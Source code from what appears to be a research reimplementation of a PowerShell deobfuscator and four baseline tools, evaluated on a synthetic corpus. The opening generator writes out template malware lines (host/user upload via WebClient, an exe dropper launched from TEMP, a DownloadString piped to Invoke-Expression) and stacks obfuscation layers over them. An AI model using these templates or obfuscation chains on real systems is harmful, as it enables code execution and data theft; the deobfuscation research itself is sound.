           "$env:COMPUTERNAME + '|' + $env:USERNAME))\n"
           "$client = New-Object Net.WebClient\n"
           "$client.UploadString('http://" + addr + ":8081/drop', $blob)\n";
  }
  if (family == "binary_dropper") {
    // Base64 of *binary* content: decodes to bytes, never to a string —
    // the case the paper cites for the un-mitigated share of L3 (65% of
    // high-score L3 was Base64, mostly binary payloads).
    ByteVec blob(96 + idx(160));
    for (auto& b : blob) b = static_cast<std::uint8_t>(rng_());
    return "$data = '" + ps::base64_encode(blob) + "'\n"
           "$bytes = [Convert]::FromBase64String($data)\n"
           "$exe = Join-Path $env:TEMP '" + kPaths()[idx(kPaths().size())] +
           ".exe'\n"
           "[IO.File]::WriteAllBytes($exe, $bytes)\n"
           "Start-Process $exe\n"
           "(New-Object Net.WebClient).DownloadString('" + url2 + "') | "
           "Out-Null\n";
  }
  // oneliner
  return "(New-Object Net.WebClient).DownloadString('" + url + "') | "
         "Invoke-Expression\n";
}

std::string CorpusGenerator::random_clean_script() {
  return render_family(families()[idx(families().size())]);
}

Sample CorpusGenerator::generate() {
  Sample sample;
  sample.family = families()[idx(families().size())];
  sample.original = render_family(sample.family);
  sample.ground_truth = extract_key_info(sample.original);

  std::string script = sample.original;
  auto use = [&](Technique t) {
    const std::string next = obf_.apply(t, script);
    if (next != script) {
      script = next;
      sample.techniques.push_back(t);
      return true;
    }
    return false;
  };
  // Some picks are no-ops on a given script (no aliasable command, no
  // literal left); retry with other candidates so the Table I marginals
  // hold.
  auto use_one_of = [&](const Technique* list, std::size_t n) {
    for (int attempt = 0; attempt < 4; ++attempt) {
      if (use(list[idx(n)])) return;
    }
  };

  // One L2 string shape first (the original always has literals), then an
  // L3 encoding over the result, then possibly a second L2 pass that splits
  // the encoded blobs — the stacking wild samples show (paper Fig 7a).
  const bool want_l2 = coin(options_.p_l2);
  if (want_l2) {
    static const Technique kL2[] = {Technique::Concat, Technique::Reorder,
                                    Technique::Replace, Technique::Reverse};
    use_one_of(kL2, std::size(kL2));
  }
  if (coin(options_.p_l3)) {
    static const Technique kL3[] = {
        Technique::AsciiEncoding, Technique::HexEncoding,
        Technique::OctalEncoding, Technique::BinaryEncoding,
        Technique::Base64Encoding, Technique::Bxor,
        Technique::SecureString,   Technique::Compress,
    };
    use_one_of(kL3, std::size(kL3));
  }
  if (want_l2 && coin(0.35)) {
    static const Technique kL2b[] = {Technique::Concat, Technique::Reorder,
                                     Technique::Replace, Technique::Reverse};
    use(kL2b[idx(std::size(kL2b))]);
  }

  // Invocation layers (multi-layer obfuscation).
  if (coin(options_.p_multilayer)) {
    const int layers = coin(0.3) ? 2 : 1;
    for (int i = 0; i < layers; ++i) {
      static const Technique kWrap[] = {Technique::Concat, Technique::Reorder,
                                        Technique::Base64Encoding,
                                        Technique::Replace};
      const auto style = static_cast<Obfuscator::LayerStyle>(idx(3));
      const std::string wrapped =
          obf_.wrap_layer(script, kWrap[idx(std::size(kWrap))], style);
      if (ps::is_valid_syntax(wrapped)) {
        script = wrapped;
        sample.layers++;
      }
    }
  } else if (coin(options_.p_specialchar_wrapper)) {
    use(Technique::SpecialCharEncoding);
  } else if (coin(options_.p_whitespace_encoding)) {
    use(Technique::WhitespaceEncoding);
  }

  // Occasionally rewrite method calls into dynamic-member form.
  if (coin(0.15)) {
    const std::string next = obf_.obfuscate_member_calls(script);
    if (next != script) script = next;
  }

  // L1 token-level noise goes on last, over whatever the script now is.
  if (coin(options_.p_l1)) {
    static const Technique kL1[] = {Technique::Ticking, Technique::RandomCase,
                                    Technique::RandomName, Technique::Alias,
                                    Technique::Whitespacing};
    use_one_of(kL1, std::size(kL1));
    if (coin(0.5)) use(kL1[idx(std::size(kL1))]);
    if (coin(0.25)) use(kL1[idx(std::size(kL1))]);
  }

  sample.obfuscated = std::move(script);
  return sample;
}

std::vector<Sample> CorpusGenerator::generate_batch(std::size_t n) {
  std::vector<Sample> out;
  out.reserve(n);
  for (std::size_t i = 0; i < n; ++i) out.push_back(generate());
  return out;
}

Sample CorpusGenerator::generate_multilayer(int layers, int style_mix) {
  Sample sample;
  sample.family = "downloader";
  sample.original = render_family(sample.family);
  sample.ground_truth = extract_key_info(sample.original);

  std::string script = sample.original;
  for (int i = 0; i < layers; ++i) {
    Technique wrap_technique;
    Obfuscator::LayerStyle style;
    switch (style_mix % 3) {
      case 0:
        // Plain literal layer: within reach of overriding-function tools.
        wrap_technique = Technique::Concat;
        style = Obfuscator::LayerStyle::IexPipe;
        break;
      case 1:
        wrap_technique = Technique::Base64Encoding;
        style = Obfuscator::LayerStyle::IexArgument;
        break;
      default:
        wrap_technique = Technique::Reorder;
        style = Obfuscator::LayerStyle::EncodedCommand;
        break;
    }
    const std::string wrapped = obf_.wrap_layer(script, wrap_technique, style);
    if (ps::is_valid_syntax(wrapped)) {
      script = wrapped;
      sample.layers++;
    }
  }
  sample.obfuscated = std::move(script);
  return sample;
}

}  // namespace ideobf
