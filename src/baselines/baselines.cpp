#include "baselines/baseline.h"

#include <algorithm>
#include <cctype>
#include <cstddef>
#include <string_view>
#include <vector>

#include "core/deobfuscator.h"
#include "pslang/alias_table.h"
#include "pslang/lexer.h"
#include "psast/parser.h"
#include "psinterp/encodings.h"
#include "psinterp/interpreter.h"
#include "sandbox/sandbox.h"

namespace ideobf {

namespace {

// The regex tools this file models match their patterns with hand-rolled
// scanners here instead of std::regex: libstdc++'s backtracking executor
// recurses once per input character on patterns like `(?:[^']|'')*`, which
// overflows the stack on large (hostile) scripts — exactly the inputs the
// robustness suite feeds through every baseline.

std::size_t skip_ws(std::string_view s, std::size_t i) {
  while (i < s.size() &&
         std::isspace(static_cast<unsigned char>(s[i])) != 0) {
    ++i;
  }
  return i;
}

std::size_t rskip_ws(std::string_view s, std::size_t end) {
  while (end > 0 && std::isspace(static_cast<unsigned char>(s[end - 1])) != 0) {
    --end;
  }
  return end;
}

bool iequals(std::string_view a, std::string_view b) {
  if (a.size() != b.size()) return false;
  for (std::size_t i = 0; i < a.size(); ++i) {
    if (std::tolower(static_cast<unsigned char>(a[i])) !=
        std::tolower(static_cast<unsigned char>(b[i]))) {
      return false;
    }
  }
  return true;
}

/// Scans a single-quoted literal (with '' escapes) starting at `i`, which
/// must point at the opening quote. Returns the index one past the closing
/// quote, or npos when unterminated.
std::size_t scan_single_quoted(std::string_view s, std::size_t i) {
  if (i >= s.size() || s[i] != '\'') return std::string_view::npos;
  ++i;
  while (i < s.size()) {
    if (s[i] == '\'') {
      if (i + 1 < s.size() && s[i + 1] == '\'') {
        i += 2;  // escaped quote
        continue;
      }
      return i + 1;
    }
    ++i;
  }
  return std::string_view::npos;
}

/// Matches `iex` or `invoke-expression` (case-insensitive) at `i`; returns
/// the index one past the keyword, or npos.
std::size_t match_iex_keyword(std::string_view s, std::size_t i) {
  for (std::string_view kw : {std::string_view("invoke-expression"),
                              std::string_view("iex")}) {
    if (i + kw.size() <= s.size() && iequals(s.substr(i, kw.size()), kw)) {
      return i + kw.size();
    }
  }
  return std::string_view::npos;
}

std::string unescape_single(std::string s) {
  std::string out;
  for (std::size_t i = 0; i < s.size(); ++i) {
    if (s[i] == '\'' && i + 1 < s.size() && s[i + 1] == '\'') {
      out.push_back('\'');
      ++i;
    } else {
      out.push_back(s[i]);
    }
  }
  return out;
}

/// Cost of executing the script with side effects enabled — the "overriding
/// function" step the regex tools run, and the reason their Fig 6 latency
/// spikes on sleepy / networky samples.
double execution_cost(std::string_view script) {
  Sandbox sandbox;
  return sandbox.run(script).simulated_seconds;
}

/// A plain-literal Invoke-Expression layer: `iex '<...>'` or `'<...>' | iex`
/// (optionally parenthesized argument). Returns true and stores the payload
/// when the whole script is one layer.
bool match_literal_layer(const std::string& script, std::string& payload) {
  const std::string_view s = script;

  // `iex  (  '<...>'  )` — both parens optional.
  std::size_t i = skip_ws(s, 0);
  std::size_t kw = match_iex_keyword(s, i);
  if (kw != std::string_view::npos && kw < s.size() &&
      std::isspace(static_cast<unsigned char>(s[kw])) != 0) {
    i = skip_ws(s, kw);
    if (i < s.size() && s[i] == '(') i = skip_ws(s, i + 1);
    const std::size_t lit_end = scan_single_quoted(s, i);
    if (lit_end != std::string_view::npos) {
      std::size_t j = skip_ws(s, lit_end);
      if (j < s.size() && s[j] == ')') j = skip_ws(s, j + 1);
      if (j == s.size()) {
        payload = unescape_single(
            std::string(s.substr(i + 1, lit_end - i - 2)));
        return true;
      }
    }
  }

  // `'<...>' | iex`
  i = skip_ws(s, 0);
  const std::size_t lit_end = scan_single_quoted(s, i);
  if (lit_end != std::string_view::npos) {
    std::size_t j = skip_ws(s, lit_end);
    if (j < s.size() && s[j] == '|') {
      j = skip_ws(s, j + 1);
      kw = match_iex_keyword(s, j);
      if (kw != std::string_view::npos && skip_ws(s, kw) == s.size()) {
        payload = unescape_single(
            std::string(s.substr(i + 1, lit_end - i - 2)));
        return true;
      }
    }
  }
  return false;
}

/// Iteratively folds the first `'a' + 'b'` into `'ab'` — the textual concat
/// rule PowerDrive and PowerDecode share.
std::string fold_concat_regex(std::string script) {
  for (int i = 0; i < 200; ++i) {
    bool folded = false;
    for (std::size_t pos = script.find('\''); pos != std::string::npos;
         pos = script.find('\'', pos + 1)) {
      const std::size_t a_end = scan_single_quoted(script, pos);
      if (a_end == std::string::npos) continue;
      std::size_t j = skip_ws(script, a_end);
      if (j >= script.size() || script[j] != '+') continue;
      j = skip_ws(script, j + 1);
      const std::size_t b_end = scan_single_quoted(script, j);
      if (b_end == std::string::npos) continue;
      // Splice the raw (still-escaped) bodies together.
      const std::string merged = "'" +
          script.substr(pos + 1, a_end - pos - 2) +
          script.substr(j + 1, b_end - j - 2) + "'";
      script = script.substr(0, pos) + merged + script.substr(b_end);
      folded = true;
      break;
    }
    if (!folded) break;
  }
  return script;
}

// ============================================================== PSDecode ==

class PSDecode final : public DeobfuscationTool {
 public:
  std::string name() const override { return "PSDecode"; }

  BaselineResult run(std::string_view input) const override {
    BaselineResult result;
    result.simulated_seconds = execution_cost(input);

    std::string script(input);
    for (int layer = 0; layer < 10; ++layer) {
      // Tick removal is a global regex — it also strips backtick escapes
      // inside strings (the imprecision the paper calls out).
      std::string stripped;
      stripped.reserve(script.size());
      for (char c : script) {
        if (c != '`') stripped.push_back(c);
      }
      script = std::move(stripped);

      std::string payload;
      if (match_literal_layer(script, payload)) {
        script = std::move(payload);
        result.simulated_seconds += execution_cost(script);
        continue;
      }
      break;
    }
    result.script = std::move(script);
    return result;
  }
};

// ============================================================ PowerDrive ==

class PowerDrive final : public DeobfuscationTool {
 public:
  std::string name() const override { return "PowerDrive"; }

  BaselineResult run(std::string_view input) const override {
    BaselineResult result;
    result.simulated_seconds = execution_cost(input);

    std::string script(input);
    // Multi-line scripts are flattened to one line "to deal with the break
    // lines" — which usually breaks statement separation (paper, Fig 8b).
    for (char& c : script) {
      if (c == '\n' || c == '\r') c = ' ';
    }
    for (int layer = 0; layer < 10; ++layer) {
      std::string stripped;
      for (char c : script) {
        if (c != '`') stripped.push_back(c);
      }
      script = fold_concat_regex(std::move(stripped));

      std::string payload;
      if (match_literal_layer(script, payload)) {
        script = std::move(payload);
        for (char& c : script) {
          if (c == '\n' || c == '\r') c = ' ';
        }
        result.simulated_seconds += execution_cost(script);
        continue;
      }
      break;
    }
    result.script = std::move(script);
    return result;
  }
};

// =========================================================== PowerDecode ==

class PowerDecode final : public DeobfuscationTool {
 public:
  std::string name() const override { return "PowerDecode"; }

  BaselineResult run(std::string_view input) const override {
    BaselineResult result;
    result.simulated_seconds = execution_cost(input);

    std::string script(input);
    for (int layer = 0; layer < 12; ++layer) {
      script = fold_concat_regex(std::move(script));
      script = fold_replace(std::move(script));

      std::string next;
      if (extract_layer(script, next, result.simulated_seconds)) {
        script = std::move(next);
        continue;
      }
      break;
    }
    result.script = std::move(script);
    return result;
  }

 private:
  /// `'X'.Replace('a','b')` on literals (the predefined replace rule).
  /// Finds the leftmost occurrence with a scanner; no regex (see above).
  struct ReplaceCall {
    std::size_t begin = 0;  // index of the opening quote of 'X'
    std::size_t end = 0;    // index one past the closing ')'
    std::string text;       // unescaped bodies
    std::string from;
    std::string to;
  };

  static bool find_replace_call(const std::string& s, ReplaceCall& call) {
    for (std::size_t pos = s.find('\''); pos != std::string::npos;
         pos = s.find('\'', pos + 1)) {
      const std::size_t text_end = scan_single_quoted(s, pos);
      if (text_end == std::string::npos) continue;
      std::size_t j = skip_ws(s, text_end);
      if (j >= s.size() || s[j] != '.') continue;
      j = skip_ws(s, j + 1);
      constexpr std::string_view kWord = "replace";
      if (j + kWord.size() > s.size() ||
          !iequals(std::string_view(s).substr(j, kWord.size()), kWord)) {
        continue;
      }
      j = skip_ws(s, j + kWord.size());
      if (j >= s.size() || s[j] != '(') continue;
      j = skip_ws(s, j + 1);
      const std::size_t from_end = scan_single_quoted(s, j);
      if (from_end == std::string::npos) continue;
      std::size_t k = skip_ws(s, from_end);
      if (k >= s.size() || s[k] != ',') continue;
      k = skip_ws(s, k + 1);
      const std::size_t to_end = scan_single_quoted(s, k);
      if (to_end == std::string::npos) continue;
      std::size_t close = skip_ws(s, to_end);
      if (close >= s.size() || s[close] != ')') continue;
      call.begin = pos;
      call.end = close + 1;
      call.text = unescape_single(s.substr(pos + 1, text_end - pos - 2));
      call.from = unescape_single(s.substr(j + 1, from_end - j - 2));
      call.to = unescape_single(s.substr(k + 1, to_end - k - 2));
      return true;
    }
    return false;
  }

  static std::string fold_replace(std::string script) {
    for (int i = 0; i < 50; ++i) {
      ReplaceCall call;
      if (!find_replace_call(script, call)) break;
      std::string text = std::move(call.text);
      const std::string from = std::move(call.from);
      const std::string to = std::move(call.to);
      if (!from.empty()) {
        std::size_t pos = 0;
        while ((pos = text.find(from, pos)) != std::string::npos) {
          text.replace(pos, from.size(), to);
          pos += to.size();
        }
      }
      std::string quoted = "'";
      for (char c : text) {
        if (c == '\'') quoted += "''";
        else quoted.push_back(c);
      }
      quoted += "'";
      script = script.substr(0, call.begin) + quoted + script.substr(call.end);
    }
    return script;
  }

  /// The overriding-function / unary-syntax-tree step: when the whole
  /// script is `iex (<expr>)` or `<expr> | iex` and <expr> is variable-free,
  /// evaluate it (side effects run — time cost) and take the result string
  /// as the next layer. `powershell -enc <b64>` is also caught.
  static bool extract_layer(const std::string& script, std::string& out,
                            double& cost) {
    std::string payload;
    if (match_literal_layer(script, payload)) {
      out = std::move(payload);
      cost += execution_cost(out);
      return true;
    }

    // `iex (<expr>)` or `(<expr>) | iex` — the expression is everything
    // between the outermost parens.
    std::string expr;
    {
      const std::string_view s = script;
      const std::size_t begin = skip_ws(s, 0);
      const std::size_t end = rskip_ws(s, s.size());
      const std::size_t kw = match_iex_keyword(s, begin);
      if (kw != std::string_view::npos && kw < end &&
          std::isspace(static_cast<unsigned char>(s[kw])) != 0) {
        const std::size_t open = skip_ws(s, kw);
        if (open < end && s[open] == '(' && s[end - 1] == ')') {
          expr = std::string(s.substr(open, end - open));
        }
      }
      if (expr.empty() && begin < end && s[begin] == '(') {
        // Strip a trailing `| iex` (case-insensitive) off the end.
        std::size_t tail = end;
        for (std::string_view kw_name :
             {std::string_view("invoke-expression"), std::string_view("iex")}) {
          if (tail >= begin + kw_name.size() &&
              iequals(s.substr(tail - kw_name.size(), kw_name.size()),
                      kw_name)) {
            tail -= kw_name.size();
            break;
          }
        }
        if (tail != end) {
          tail = rskip_ws(s, tail);
          if (tail > begin && s[tail - 1] == '|') {
            tail = rskip_ws(s, tail - 1);
            if (tail > begin && s[tail - 1] == ')') {
              expr = std::string(s.substr(begin, tail - begin));
            }
          }
        }
      }
    }
    if (!expr.empty()) {
      // "Unary syntax tree model": evaluate the expression when it does not
      // depend on script context. Strict mode makes variable references
      // throw, which is exactly the boundary of their model.
      try {
        ps::InterpreterOptions opts;
        opts.max_steps = 500000;
        opts.strict_variables = true;
        ps::Interpreter interp(opts);
        const ps::Value v = interp.evaluate_script(expr);
        if (v.is_string()) {
          out = v.get_string();
          cost += execution_cost(out);
          return true;
        }
      } catch (const std::exception&) {
        return false;
      }
      return false;
    }

    // `powershell [-flag ...] -e<...> <base64>` — whitespace-token matching.
    std::string b64;
    {
      std::vector<std::string_view> tokens;
      const std::string_view s = script;
      std::size_t i = skip_ws(s, 0);
      while (i < s.size()) {
        std::size_t j = i;
        while (j < s.size() &&
               std::isspace(static_cast<unsigned char>(s[j])) == 0) {
          ++j;
        }
        tokens.push_back(s.substr(i, j - i));
        i = skip_ws(s, j);
      }
      const auto is_word = [](std::string_view t) {
        return !t.empty() && std::all_of(t.begin(), t.end(), [](char c) {
          return std::isalnum(static_cast<unsigned char>(c)) != 0 || c == '_';
        });
      };
      bool shape_ok = tokens.size() >= 3 &&
                      (iequals(tokens[0], "powershell") ||
                       iequals(tokens[0], "powershell.exe"));
      for (std::size_t t = 1; shape_ok && t + 1 < tokens.size(); ++t) {
        shape_ok = tokens[t].size() >= 2 && tokens[t][0] == '-' &&
                   is_word(tokens[t].substr(1));
      }
      const std::string_view enc_flag =
          shape_ok ? tokens[tokens.size() - 2] : std::string_view();
      if (shape_ok && enc_flag.size() >= 2 &&
          (enc_flag[1] == 'e' || enc_flag[1] == 'E')) {
        const std::string_view last = tokens.back();
        const bool b64_ok =
            !last.empty() && std::all_of(last.begin(), last.end(), [](char c) {
              return std::isalnum(static_cast<unsigned char>(c)) != 0 ||
                     c == '+' || c == '/' || c == '=';
            });
        if (b64_ok) b64 = std::string(last);
      }
    }
    if (!b64.empty()) {
      const auto bytes = ps::base64_decode(b64);
      if (bytes) {
        out = ps::encoding_get_string(ps::TextEncoding::Unicode, *bytes);
        cost += execution_cost(out);
        return true;
      }
    }
    return false;
  }
};

// ================================================================ Li et al.

class LiEtAl final : public DeobfuscationTool {
 public:
  std::string name() const override { return "Li et al."; }

  BaselineResult run(std::string_view raw_input) const override {
    BaselineResult result;
    result.script = std::string(raw_input);

    // Their C# front end re-emits pieces through the real AST, which
    // normalizes backticks away (Table II: Ticking is their one L1 row).
    std::string input_storage = strip_ticks(raw_input);
    const std::string_view input = input_storage;

    auto root = ps::try_parse(input);
    if (root == nullptr) return result;  // needs a valid AST to start
    result.script = input_storage;

    // Collect statement-position PipelineAst subtrees (their tool only
    // handles pipeline roots) and directly execute each without context.
    std::vector<std::pair<std::string, std::string>> replacements;
    double cost = 0;

    root->post_order([&](const ps::Ast& node) {
      if (node.kind() != ps::NodeKind::Pipeline) return;
      const ps::Ast* parent = node.parent();
      const auto& pipe = static_cast<const ps::PipelineAst&>(node);
      bool has_command = false;
      for (const auto& el : pipe.elements) {
        if (el->kind() == ps::NodeKind::Command) has_command = true;
      }
      const bool statement_position =
          parent == nullptr || parent->kind() == ps::NodeKind::NamedBlock ||
          parent->kind() == ps::NodeKind::StatementBlock ||
          parent->kind() == ps::NodeKind::ScriptBlock ||
          parent->kind() == ps::NodeKind::ParenExpression ||
          parent->kind() == ps::NodeKind::AssignmentStatement;
      if (!statement_position) return;
      // Their traversal misses *expression* pieces placed in assignments
      // (the paper's "last two positions"), but command pipelines such as
      // `New-Object Net.WebClient` are replaced wherever they sit — which
      // is what produces the wrong `System.Net.WebClient` substitutions.
      if (!has_command) {
        const ps::Ast* up = parent;
        while (up != nullptr) {
          if (up->kind() == ps::NodeKind::AssignmentStatement) return;
          up = up->parent();
        }
      }
      const std::string piece(node.text_in(input));
      if (piece.size() < 4) return;
      // Already a bare literal? Nothing to do.
      if (piece.front() == '\'' && piece.back() == '\'') return;

      ps::InterpreterOptions opts;
      opts.max_steps = 300000;
      // No context: variables silently resolve to $null, which is exactly
      // how direct execution goes wrong on variable-bearing pieces (paper
      // section V-A).
      opts.strict_variables = false;
      // No blocklist: unrelated commands execute (anti-debug, sleeps, ...).
      SandboxAccount account;
      opts.recorder = &account;
      ps::Interpreter interp(opts);
      try {
        const ps::Value v = interp.evaluate_script(piece);
        cost += account.seconds;
        std::string replacement;
        if (v.is_string()) {
          replacement = "'" + v.get_string() + "'";  // naive quoting
        } else if (v.is_int()) {
          replacement = std::to_string(v.get_int());
        } else if (v.is_object()) {
          // The semantically wrong replacement the paper demonstrates:
          // `New-Object Net.WebClient` -> `System.Net.WebClient`.
          replacement = v.get_object()->type_name();
        } else if (v.is_bool()) {
          replacement = v.get_bool() ? "True" : "False";
        } else {
          return;
        }
        if (replacement != piece) replacements.emplace_back(piece, replacement);
      } catch (const std::exception&) {
        cost += account.seconds;
      }
    });

    // Context-free replacement: every occurrence of the same piece text is
    // replaced at once (the paper's semantic-consistency critique).
    std::string script(input);
    for (const auto& [from, to] : replacements) {
      std::size_t pos = 0;
      while ((pos = script.find(from, pos)) != std::string::npos) {
        script.replace(pos, from.size(), to);
        pos += to.size();
      }
    }
    result.script = std::move(script);
    result.simulated_seconds = cost;
    return result;
  }

 private:
  /// Token-precise backtick removal (the AST re-emission effect).
  static std::string strip_ticks(std::string_view script) {
    bool ok = true;
    const ps::TokenStream tokens = ps::tokenize_lenient(script, ok);
    if (!ok) return std::string(script);
    std::string out(script);
    for (auto it = tokens.rbegin(); it != tokens.rend(); ++it) {
      if (it->type == ps::TokenType::String ||
          it->type == ps::TokenType::LineContinuation) {
        continue;
      }
      if (it->text.find('`') == std::string::npos) continue;
      std::string fixed(it->text);
      fixed.erase(std::remove(fixed.begin(), fixed.end(), '`'), fixed.end());
      out.replace(it->start, it->length, fixed);
    }
    return out;
  }

  /// Minimal recorder that only accounts simulated time.
  class SandboxAccount final : public ps::EffectRecorder {
   public:
    double seconds = 0;
    void on_network(std::string_view, std::string_view) override { seconds += 0.5; }
    void on_process(std::string_view) override { seconds += 0.4; }
    void on_file(std::string_view, std::string_view) override {}
    void on_sleep(double s) override { seconds += s; }
    void on_host_output(std::string_view) override {}
    std::string download_content(std::string_view) override { return ""; }
  };
};

// ======================================================= Invoke-Deobf (us)

class Ours final : public DeobfuscationTool {
 public:
  std::string name() const override { return "Invoke-Deobfuscation"; }

  BaselineResult run(std::string_view input) const override {
    BaselineResult result;
    result.script = deobf_.deobfuscate(input);
    result.simulated_seconds = 0;  // the blocklist forbids costly commands
    return result;
  }

 private:
  InvokeDeobfuscator deobf_;
};

}  // namespace

std::unique_ptr<DeobfuscationTool> make_psdecode() {
  return std::make_unique<PSDecode>();
}
std::unique_ptr<DeobfuscationTool> make_powerdrive() {
  return std::make_unique<PowerDrive>();
}
std::unique_ptr<DeobfuscationTool> make_powerdecode() {
  return std::make_unique<PowerDecode>();
}
std::unique_ptr<DeobfuscationTool> make_li_etal() {
  return std::make_unique<LiEtAl>();
}
std::unique_ptr<DeobfuscationTool> make_invoke_deobfuscation() {
  return std::make_unique<Ours>();
}

std::vector<std::unique_ptr<DeobfuscationTool>> make_all_tools() {
  std::vector<std::unique_ptr<DeobfuscationTool>> tools;
  tools.push_back(make_psdecode());
  tools.push_back(make_powerdrive());
  tools.push_back(make_powerdecode());
  tools.push_back(make_li_etal());
  tools.push_back(make_invoke_deobfuscation());
  return tools;
}

}  // namespace ideobf
