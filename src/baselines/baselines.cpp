#include "baselines/baseline.h"

#include <algorithm>
#include <regex>

#include "core/deobfuscator.h"
#include "pslang/alias_table.h"
#include "pslang/lexer.h"
#include "psast/parser.h"
#include "psinterp/encodings.h"
#include "psinterp/interpreter.h"
#include "sandbox/sandbox.h"

namespace ideobf {

namespace {

std::string unescape_single(std::string s) {
  std::string out;
  for (std::size_t i = 0; i < s.size(); ++i) {
    if (s[i] == '\'' && i + 1 < s.size() && s[i + 1] == '\'') {
      out.push_back('\'');
      ++i;
    } else {
      out.push_back(s[i]);
    }
  }
  return out;
}

/// Cost of executing the script with side effects enabled — the "overriding
/// function" step the regex tools run, and the reason their Fig 6 latency
/// spikes on sleepy / networky samples.
double execution_cost(std::string_view script) {
  Sandbox sandbox;
  return sandbox.run(script).simulated_seconds;
}

/// A plain-literal Invoke-Expression layer: `iex '<...>'` or `'<...>' | iex`.
/// Returns true and stores the payload when the whole script is one layer.
bool match_literal_layer(const std::string& script, std::string& payload) {
  static const std::regex kIexArg(
      R"(^\s*(?:iex|invoke-expression)\s+\(?\s*'((?:[^']|'')*)'\s*\)?\s*$)",
      std::regex::icase);
  static const std::regex kPipeIex(
      R"(^\s*'((?:[^']|'')*)'\s*\|\s*(?:iex|invoke-expression)\s*$)",
      std::regex::icase);
  std::smatch m;
  if (std::regex_match(script, m, kIexArg) ||
      std::regex_match(script, m, kPipeIex)) {
    payload = unescape_single(m[1].str());
    return true;
  }
  return false;
}

/// Iteratively folds `'a' + 'b'` into `'ab'` with a regex — the concat rule
/// PowerDrive and PowerDecode share.
std::string fold_concat_regex(std::string script) {
  static const std::regex kConcat(R"('((?:[^']|'')*)'\s*\+\s*'((?:[^']|'')*)')");
  for (int i = 0; i < 200; ++i) {
    std::string next = std::regex_replace(script, kConcat, "'$1$2'",
                                          std::regex_constants::format_first_only);
    if (next == script) break;
    script = std::move(next);
  }
  return script;
}

// ============================================================== PSDecode ==

class PSDecode final : public DeobfuscationTool {
 public:
  std::string name() const override { return "PSDecode"; }

  BaselineResult run(std::string_view input) const override {
    BaselineResult result;
    result.simulated_seconds = execution_cost(input);

    std::string script(input);
    for (int layer = 0; layer < 10; ++layer) {
      // Tick removal is a global regex — it also strips backtick escapes
      // inside strings (the imprecision the paper calls out).
      std::string stripped;
      stripped.reserve(script.size());
      for (char c : script) {
        if (c != '`') stripped.push_back(c);
      }
      script = std::move(stripped);

      std::string payload;
      if (match_literal_layer(script, payload)) {
        script = std::move(payload);
        result.simulated_seconds += execution_cost(script);
        continue;
      }
      break;
    }
    result.script = std::move(script);
    return result;
  }
};

// ============================================================ PowerDrive ==

class PowerDrive final : public DeobfuscationTool {
 public:
  std::string name() const override { return "PowerDrive"; }

  BaselineResult run(std::string_view input) const override {
    BaselineResult result;
    result.simulated_seconds = execution_cost(input);

    std::string script(input);
    // Multi-line scripts are flattened to one line "to deal with the break
    // lines" — which usually breaks statement separation (paper, Fig 8b).
    for (char& c : script) {
      if (c == '\n' || c == '\r') c = ' ';
    }
    for (int layer = 0; layer < 10; ++layer) {
      std::string stripped;
      for (char c : script) {
        if (c != '`') stripped.push_back(c);
      }
      script = fold_concat_regex(std::move(stripped));

      std::string payload;
      if (match_literal_layer(script, payload)) {
        script = std::move(payload);
        for (char& c : script) {
          if (c == '\n' || c == '\r') c = ' ';
        }
        result.simulated_seconds += execution_cost(script);
        continue;
      }
      break;
    }
    result.script = std::move(script);
    return result;
  }
};

// =========================================================== PowerDecode ==

class PowerDecode final : public DeobfuscationTool {
 public:
  std::string name() const override { return "PowerDecode"; }

  BaselineResult run(std::string_view input) const override {
    BaselineResult result;
    result.simulated_seconds = execution_cost(input);

    std::string script(input);
    for (int layer = 0; layer < 12; ++layer) {
      script = fold_concat_regex(std::move(script));
      script = fold_replace(std::move(script));

      std::string next;
      if (extract_layer(script, next, result.simulated_seconds)) {
        script = std::move(next);
        continue;
      }
      break;
    }
    result.script = std::move(script);
    return result;
  }

 private:
  /// `'X'.Replace('a','b')` on literals (the predefined replace rule).
  static std::string fold_replace(std::string script) {
    static const std::regex kReplace(
        R"('((?:[^']|'')*)'\s*\.\s*replace\s*\(\s*'((?:[^']|'')*)'\s*,\s*'((?:[^']|'')*)'\s*\))",
        std::regex::icase);
    for (int i = 0; i < 50; ++i) {
      std::smatch m;
      if (!std::regex_search(script, m, kReplace)) break;
      std::string text = unescape_single(m[1].str());
      const std::string from = unescape_single(m[2].str());
      const std::string to = unescape_single(m[3].str());
      if (!from.empty()) {
        std::size_t pos = 0;
        while ((pos = text.find(from, pos)) != std::string::npos) {
          text.replace(pos, from.size(), to);
          pos += to.size();
        }
      }
      std::string quoted = "'";
      for (char c : text) {
        if (c == '\'') quoted += "''";
        else quoted.push_back(c);
      }
      quoted += "'";
      script = std::string(m.prefix()) + quoted + std::string(m.suffix());
    }
    return script;
  }

  /// The overriding-function / unary-syntax-tree step: when the whole
  /// script is `iex (<expr>)` or `<expr> | iex` and <expr> is variable-free,
  /// evaluate it (side effects run — time cost) and take the result string
  /// as the next layer. `powershell -enc <b64>` is also caught.
  static bool extract_layer(const std::string& script, std::string& out,
                            double& cost) {
    std::string payload;
    if (match_literal_layer(script, payload)) {
      out = std::move(payload);
      cost += execution_cost(out);
      return true;
    }

    static const std::regex kIexExpr(
        R"(^\s*(?:iex|invoke-expression)\s+(\([\s\S]*\))\s*$)", std::regex::icase);
    static const std::regex kExprPipe(
        R"(^\s*(\([\s\S]*\))\s*\|\s*(?:iex|invoke-expression)\s*$)",
        std::regex::icase);
    std::smatch m;
    if (std::regex_match(script, m, kIexExpr) ||
        std::regex_match(script, m, kExprPipe)) {
      const std::string expr = m[1].str();
      // "Unary syntax tree model": evaluate the expression when it does not
      // depend on script context. Strict mode makes variable references
      // throw, which is exactly the boundary of their model.
      try {
        ps::InterpreterOptions opts;
        opts.max_steps = 500000;
        opts.strict_variables = true;
        ps::Interpreter interp(opts);
        const ps::Value v = interp.evaluate_script(expr);
        if (v.is_string()) {
          out = v.get_string();
          cost += execution_cost(out);
          return true;
        }
      } catch (const std::exception&) {
        return false;
      }
      return false;
    }

    static const std::regex kEnc(
        R"(^\s*powershell(?:\.exe)?\s+(?:-\w+\s+)*-e\w*\s+([A-Za-z0-9+/=]+)\s*$)",
        std::regex::icase);
    if (std::regex_match(script, m, kEnc)) {
      const auto bytes = ps::base64_decode(m[1].str());
      if (bytes) {
        out = ps::encoding_get_string(ps::TextEncoding::Unicode, *bytes);
        cost += execution_cost(out);
        return true;
      }
    }
    return false;
  }
};

// ================================================================ Li et al.

class LiEtAl final : public DeobfuscationTool {
 public:
  std::string name() const override { return "Li et al."; }

  BaselineResult run(std::string_view raw_input) const override {
    BaselineResult result;
    result.script = std::string(raw_input);

